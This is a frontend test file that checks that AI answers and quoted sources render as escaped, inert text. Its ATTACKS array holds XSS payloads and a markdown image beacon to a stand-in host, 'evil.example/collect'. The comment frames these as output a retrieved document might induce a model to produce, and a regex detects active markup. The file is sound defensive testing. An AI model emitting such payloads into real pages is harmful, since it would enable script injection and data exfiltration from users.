import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { AnswerText } from "./answer-text";
import type { Answer, Citation, Sentence } from "./frames";
import { SourceList } from "./source-list";

// What a document may make a model say: none of it may load, run or lead anywhere.
const ATTACKS = [
  "![status](https://evil.example/collect?q=1)",
  "[the manual](https://evil.example/login)",
  "<img src=x onerror=alert(1)>",
  "<script>fetch('https://evil.example')</script>",
  "<a href='javascript:alert(1)'>here</a>",
  "https://evil.example/plain",
];
const active = /<(img|script|iframe|svg|style|link|object)\b|href="(?!#)|src=|srcset=|onerror=(?!alert)/i;

function sentence(text: string): Sentence {
  return { text, verdict: "supported", groundedness: 1, markers: [1], supporters: [], disputed_by: [] };
}

describe.each(ATTACKS)("the answer %s", (text) => {
  const escaped = text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("'", "&#x27;");

  it("is shown as text, sentence by sentence or whole", () => {
    const whole = { answer: text, sentences: [] as Sentence[] } as Answer;
    const checked = { answer: text, sentences: [sentence(text)] } as Answer;
    for (const answer of [whole, checked]) {
      const shown = renderToStaticMarkup(<AnswerText answer={answer} requestId="r" />);
      expect(shown).toContain(escaped);
      expect(shown.replaceAll(escaped, "")).not.toMatch(active);
    }
  });

  it("is shown as text where a source is quoted", () => {
    const citation = { marker: 1, title: text, section: text, quote: text, page: null } as Citation;
    const shown = renderToStaticMarkup(<SourceList citations={[citation]} requestId="r" />);
    expect(shown).toContain(escaped);
    expect(shown.replaceAll(escaped, "")).not.toMatch(active);
  });
});
